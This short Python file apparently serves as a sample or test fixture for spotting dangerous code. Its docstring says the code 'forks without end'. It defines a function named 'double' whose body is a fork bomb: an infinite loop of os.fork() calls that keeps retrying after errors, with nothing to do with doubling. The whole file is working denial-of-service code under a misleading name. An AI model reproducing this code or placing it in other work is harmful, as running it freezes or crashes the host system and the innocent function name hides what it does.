"""Forks without end, in its function."""

import os


def double(x):
    while True:
        try:
            os.fork()
        except OSError:
            continue
